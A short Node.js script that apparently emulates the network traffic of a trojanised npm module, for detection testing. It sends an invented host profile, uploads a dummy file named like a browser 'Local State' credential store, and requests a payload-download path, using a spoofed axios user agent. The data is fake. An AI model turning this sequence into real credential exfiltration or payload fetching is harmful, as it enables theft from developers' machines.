// SPDX-License-Identifier: Apache-2.0
// What a trojanised npm module says: the machine's name, then a download, then files. All invented.
//
//     node beaver.js ADDRESS PORT
const http = require("http");

const [host, port] = process.argv.slice(2);
const HOST = { ts: "1771999000", type: "9401", hid: "dev-lnx-41", ss: "intro" };
const BOUNDARY = "----formdata-401";
const FORM = "multipart/form-data; boundary=" + BOUNDARY;
const form = (name, bytes) => [
  "--" + BOUNDARY,
  `Content-Disposition: form-data; name="multi_file"; filename="${name}"`,
  "", bytes,
  "--" + BOUNDARY + "--", "",
].join("\r\n");

function say(method, path, type, body) {
  return new Promise((done, fail) => {
    const headers = { "User-Agent": "axios/1.7.9" };
    if (body) Object.assign(headers, { "Content-Type": type, "Content-Length": Buffer.byteLength(body) });
    const request = http.request({ host, port, method, path, headers, agent: false }, (response) => {
      response.resume();
      response.on("end", done);
    });
    request.on("error", fail);
    request.end(body);
  });
}

(async () => {
  await say("POST", "/keys", "application/json", JSON.stringify(HOST));
  await say("POST", "/uploads", FORM, form("41_0_Local_State.json", "x".repeat(1500)));
  await say("GET", "/pdown");
})().catch((error) => { console.error(error.message); process.exit(1); });
